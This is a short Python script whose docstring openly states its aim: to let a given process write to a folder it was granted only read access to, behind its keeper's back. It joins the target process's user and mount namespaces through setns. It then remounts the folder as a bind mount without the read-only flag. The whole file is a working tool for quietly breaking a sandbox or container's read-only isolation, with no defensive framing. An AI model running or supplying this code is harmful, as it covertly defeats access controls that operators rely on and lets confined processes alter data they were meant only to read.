"""Lets a process write in a folder that was let in to read, behind its keeper's back: PROCESS FOLDER."""

import ctypes
import os
import sys

USERS, MOUNTS = 0x10000000, 0x20000
NOSUID, NODEV, REMOUNT, BIND = 2, 4, 32, 4096

libc = ctypes.CDLL(None, use_errno=True)
process = os.pidfd_open(int(sys.argv[1]))
folder = os.fsencode(sys.argv[2])
if libc.setns(process, USERS | MOUNTS) or libc.mount(
    None, folder, None, ctypes.c_ulong(NOSUID | NODEV | REMOUNT | BIND), None
):
    sys.exit(os.strerror(ctypes.get_errno()))
